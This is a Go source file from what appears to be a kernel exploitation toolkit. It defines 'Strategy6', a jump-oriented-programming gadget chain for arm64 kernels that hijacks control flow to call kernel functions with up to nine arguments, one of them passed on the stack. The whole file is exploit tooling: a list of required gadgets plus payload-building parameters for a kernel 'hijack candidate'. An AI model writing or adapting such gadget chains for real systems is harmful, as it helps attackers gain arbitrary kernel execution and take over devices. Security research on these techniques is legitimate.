package jop

import "ktsim/internal/gadget"

// Strategy6 is spec.md §4.F's narrowest stack-argument fallback:
// gadget_populate_3's NEON-assisted table read (it moves one quadword
// register pair through q0 alongside the plain x9/x10 words) feeding
// gadget_store_result_2. This package only relies on gadget_populate_3's
// first stack slot, capping capacity at 8 register arguments plus 1 stack
// word even though the gadget's own byte pattern has room for more (see
// DESIGN.md) — kept deliberately conservative since this strategy exists
// for the narrowest hijack candidate a kernel build might offer.
var Strategy6 = Strategy{
	Name: "strategy6",
	RequiredGadgets: []string{
		gadget.Dispatch, gadget.MovX8X6BrX6, gadget.MovX10X4BrX8,
		gadget.MovX9X10BrX8, gadget.MovX19X9BrX8, gadget.MovX12X3BrX8,
		gadget.MovX20X12BlrX8, gadget.MovX24X2BrX8, gadget.MovX23X0BlrX8,
		gadget.MovX25X0BlrX8, gadget.GadgetPopulate3, gadget.GadgetCallFunction1,
		gadget.GadgetStoreResult2, gadget.Ret,
	},
	PayloadSize:   sPayloadSize,
	StackArgBytes: 0x08,
	MaxArgs:       9,
	Build: func(a BuildArgs, buf []byte) (BuildResult, error) {
		return buildPrologueStrategy("strategy6", prologueGadgets{
			populate:    gadget.GadgetPopulate3,
			storeResult: gadget.GadgetStoreResult2,
		}, 9, a, buf)
	},
}
